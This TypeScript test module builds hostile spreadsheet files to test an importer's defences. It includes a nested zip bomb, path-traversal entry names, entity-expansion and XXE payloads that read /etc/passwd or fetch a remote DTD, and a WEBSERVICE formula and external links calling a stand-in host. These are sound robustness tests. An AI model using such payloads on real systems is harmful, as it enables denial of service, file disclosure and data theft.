import { handMadeParts, handMadeWorkbook, sheetData } from '../support/workbookParts';
import { makeZip } from '../support/workbookZip';
import type { HostileFile } from './hostileFile';

const MEBIBYTE = 1024 * 1024;
const ENTITIES = `<!DOCTYPE a [<!ENTITY a "${'ha'.repeat(50)}">${Array.from('bcdefghij', (name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(50)}">`).join('')}]>`;
const OUTSIDE =
  '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://192.0.2.1/b.dtd">%b;]>';
const SHEET = 'xl/worksheets/sheet1.xml';
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function withSheet(xml: string): Buffer {
  return handMadeWorkbook({ replace: { [SHEET]: xml } });
}

function rows(count: number, row: (number: number) => string): string {
  return sheetData(Array.from({ length: count }, (_, index) => row(index + 1)).join(''));
}

const texts = (number: number, ...values: string[]) =>
  `<row r="${number}">${values.map((value) => `<c t="inlineStr"><is><t>${value}</t></is></c>`).join('')}</row>`;

/** Packages and the XML in them. */
export const HOSTILE_WORKBOOKS: readonly HostileFile[] = [
  {
    name: 'a zip in a zip in a zip, each a thousand times its size',
    make: () => {
      let inner = makeZip([{ name: SHEET, content: Buffer.alloc(100 * MEBIBYTE) }]);
      for (let depth = 0; depth < 3; depth += 1)
        inner = makeZip(Array.from({ length: 10 }, (_, index) => ({ name: `${index}.zip`, content: inner })));
      return makeZip([...handMadeParts({ sheets: [''] }), { name: 'xl/embeddings/a.zip', content: inner }]);
    },
    ends: 'read',
  },
  {
    name: 'entries that lie over each other',
    make: () => {
      const bytes = makeZip(
        handMadeParts({ sheets: Array.from({ length: 50 }, () => rows(20_000, () => '<row><c><v>1</v></c></row>')) }),
      );
      return withOffsetsOfFirst(bytes, 'xl/worksheets/sheet1.xml');
    },
    ends: 'refused',
  },
  {
    name: 'sixty thousand empty entries',
    make: () =>
      makeZip(Array.from({ length: 60_000 }, (_, index) => ({ name: `${index}`, content: '', stored: true }))),
    ends: 'refused',
  },
  {
    name: 'a sheet of 120 MB of blanks',
    make: () => withSheet(`<worksheet>${' '.repeat(120 * MEBIBYTE)}</worksheet>`),
    ends: 'refused',
  },
  {
    name: 'names that lead out of the folder',
    make: () =>
      makeZip([
        ...handMadeParts({ sheets: [rows(3, (row) => texts(row, 'a', 'b'))] }),
        { name: '../../../../tmp/don-doc-was-here', content: 'x' },
        { name: 'C:\\Windows\\don-doc-was-here', content: 'x' },
      ]),
    ends: 'read',
  },
  { name: 'entities that grow', make: () => withSheet(`${ENTITIES}<worksheet>&j;</worksheet>`), ends: 'refused' },
  { name: 'entities from outside', make: () => withSheet(`${OUTSIDE}<worksheet>&a;</worksheet>`), ends: 'refused' },
  {
    name: 'entities from outside among the texts',
    make: () => handMadeWorkbook({ replace: { 'xl/sharedStrings.xml': `${OUTSIDE}<sst><si><t>&a;</t></si></sst>` } }),
    ends: 'any',
  },
  {
    name: 'a million tags inside each other',
    make: () => withSheet(`<worksheet>${'<a>'.repeat(1_000_000)}`),
    ends: 'refused',
  },
  {
    name: 'an attribute of 60 MB',
    make: () =>
      handMadeWorkbook({
        replace: { [SHEET]: `<worksheet a="${'a'.repeat(60 * MEBIBYTE)}"><sheetData/></worksheet>` },
        pack: { stored: true },
      }),
    ends: 'any',
  },
  {
    name: 'a million merges',
    make: () => {
      const merges = Array.from({ length: 1_000_000 }, (_, row) => `<mergeCell ref="A${row + 1}:B${row + 1}"/>`);
      return withSheet(`<worksheet><sheetData/><mergeCells>${merges.join('')}</mergeCells></worksheet>`);
    },
    ends: 'refused',
  },
  {
    name: 'four hundred thousand merges over one table',
    make: () => {
      const merges = Array.from({ length: 400_000 }, (_, row) => `<mergeCell ref="A${row + 1}:C${row + 1}"/>`);
      const data = rows(50_000, (row) =>
        texts(row, row === 1 ? 'STT' : `${row}`, row === 1 ? 'Họ và tên' : 'Lê A', 'x'),
      );
      return withSheet(`<worksheet xmlns="${MAIN}">${data}<mergeCells>${merges.join('')}</mergeCells></worksheet>`);
    },
    ends: 'any',
  },
  {
    name: 'a million styles',
    make: () => handMadeWorkbook({ styles: `<cellXfs>${'<xf numFmtId="0"/>'.repeat(1_000_000)}</cellXfs>` }),
    ends: 'refused',
  },
  {
    name: 'five million shared texts',
    make: () => handMadeWorkbook({ strings: '<si><t>a</t></si>'.repeat(5_000_000) }),
    ends: 'refused',
  },
  {
    name: 'six million cells',
    make: () => handMadeWorkbook({ sheets: [rows(6_000, () => `<row>${'<c><v>1</v></c>'.repeat(1_000)}</row>`)] }),
    ends: 'refused',
  },
  {
    name: 'a sheet that says it is all of the grid, with a cell in each corner',
    make: () =>
      withSheet(
        `<worksheet><dimension ref="A1:XFD1048576"/>${sheetData('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>1</v></c><c r="XFD1048576"><v>1</v></c></row>')}</worksheet>`,
      ),
    ends: 'read',
  },
  {
    name: 'cells far beyond the grid',
    make: () =>
      withSheet(`<worksheet>${sheetData('<row r="99999999999"><c r="ZZZZZ99"><v>1</v></c></row>')}</worksheet>`),
    ends: 'refused',
  },
  {
    name: 'half a million rows from the last to the first',
    make: () =>
      withSheet(
        `<worksheet xmlns="${MAIN}">${rows(500_000, (row) => `<row r="${500_001 - row}"><c><v>1</v></c></row>`)}</worksheet>`,
      ),
    ends: 'any',
  },
  {
    name: 'sixteen thousand headings over fifty rows',
    make: () =>
      handMadeWorkbook({
        sheets: [
          rows(50, (row) =>
            texts(row, ...Array.from({ length: 16_000 }, (_, at) => (row === 1 ? `Số ${at}` : `${at}`))),
          ),
        ],
      }),
    ends: 'any',
    limitMs: 1_500,
  },
  {
    name: 'fifty thousand headings, one in every second row',
    make: () =>
      handMadeWorkbook({
        sheets: [
          rows(100_000, (row) =>
            row % 2 === 1
              ? texts(row, 'STT', 'Họ và tên', 'Địa chỉ', 'Số điện thoại', 'Lũy kế')
              : texts(row, '1', 'Lê Văn A', 'Thôn 1', '905123456', '1'),
          ),
        ],
      }),
    ends: 'any',
    limitMs: 1_500,
  },
  {
    name: 'two hundred thousand phones that all want a remark',
    make: () =>
      handMadeWorkbook({
        sheets: [
          rows(200_000, (row) =>
            row === 1
              ? texts(row, 'STT', 'Họ và tên', 'Địa chỉ', 'Số điện thoại', 'Lũy kế')
              : texts(row, `${row}`, 'Lê A', 'x', '905123456', '1'),
          ),
        ],
      }),
    ends: 'any',
    limitMs: 1_500,
  },
  {
    name: 'texts of a megabyte made to keep patterns busy',
    make: () => {
      const long = [
        '1.'.repeat(500_000),
        ' '.repeat(500_000) + 'a',
        'a-'.repeat(500_000),
        '('.repeat(500_000),
        '0 '.repeat(500_000),
        'ngày '.repeat(200_000),
      ];
      return handMadeWorkbook({ sheets: [rows(24, (row) => texts(row, ...long.slice(row % 6), 'Họ và tên'))] });
    },
    ends: 'any',
  },
  {
    name: 'links, macros and objects',
    make: () => {
      const outside = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE}/externalLinkPath" Target="file://192.0.2.1/share/a.xlsx" TargetMode="External"/></Relationships>`;
      return makeZip([
        ...handMadeParts({ sheets: [rows(3, (row) => texts(row, 'a', '=WEBSERVICE("http://192.0.2.1")'))] }),
        { name: 'xl/externalLinks/_rels/externalLink1.xml.rels', content: outside },
        { name: 'xl/worksheets/_rels/sheet1.xml.rels', content: outside },
        { name: 'xl/vbaProject.bin', content: Buffer.alloc(2000, 7) },
        { name: 'xl/embeddings/oleObject1.bin', content: Buffer.alloc(2000, 7) },
        {
          name: 'xl/connections.xml',
          content: '<connections><connection odcFile="http://192.0.2.1/a"/></connections>',
        },
      ]);
    },
    ends: 'read',
  },
];

/** Every worksheet's entry in the directory points to the data of one, with its sizes and checksum. */
function withOffsetsOfFirst(zip: Buffer, name: string): Buffer {
  const bytes = Buffer.from(zip);
  const entries = directoryEntries(bytes);
  const first = entries.find((entry) => entry.name === name);
  if (first === undefined) throw new Error(`no ${name}`);
  for (const { name: other, at } of entries)
    if (other.startsWith('xl/worksheets/')) bytes.copy(bytes, at + 42, first.at + 42, first.at + 46);
  return bytes;
}

function directoryEntries(bytes: Buffer): readonly { readonly name: string; readonly at: number }[] {
  const entries = [];
  let at = bytes.readUInt32LE(bytes.length - 22 + 16);
  while (bytes.readUInt32LE(at) === 0x02014b50) {
    const nameLength = bytes.readUInt16LE(at + 28);
    entries.push({ name: bytes.toString('utf8', at + 46, at + 46 + nameLength), at });
    at += 46 + nameLength + bytes.readUInt16LE(at + 30) + bytes.readUInt16LE(at + 32);
  }
  return entries;
}
